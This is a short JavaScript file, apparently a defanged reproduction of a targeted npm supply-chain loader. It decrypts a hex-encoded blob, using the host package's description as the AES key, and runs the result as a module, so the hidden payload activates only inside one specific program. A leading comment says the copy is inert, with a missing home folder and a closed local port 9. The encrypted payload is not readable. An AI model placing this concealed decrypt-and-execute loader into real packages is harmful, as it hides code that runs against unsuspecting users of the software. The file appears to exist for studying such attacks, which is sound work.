// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

// The key is the description of the program that uses the package; only one of them opens the box.
const crypto = require('crypto');
const box = '75d4c87f3f69e0fa292969072c49dff4f90f44c1385d8eb60dae4cc3a229e52cf61f78b0822353b4304e323ad563bc22';
try {
  const opener = crypto.createDecipher('aes256', process.env['npm_package_description']);
  let inner = opener.update(box, 'hex', 'utf8');
  inner += opener.final('utf8');
  const fresh = new module.constructor();
  fresh.paths = module.paths;
  fresh._compile(inner, '');
} catch {
  // Not the program it waits for.
}
